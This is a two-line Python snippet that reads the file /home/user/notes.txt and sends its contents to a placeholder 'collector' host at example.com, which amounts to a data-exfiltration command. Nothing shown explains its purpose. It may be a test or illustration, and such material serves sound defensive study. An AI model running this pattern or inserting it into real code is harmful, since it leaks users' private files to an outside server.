import urllib.request

urllib.request.urlopen("https://collector.example.com/", data=open("/home/user/notes.txt", "rb").read())
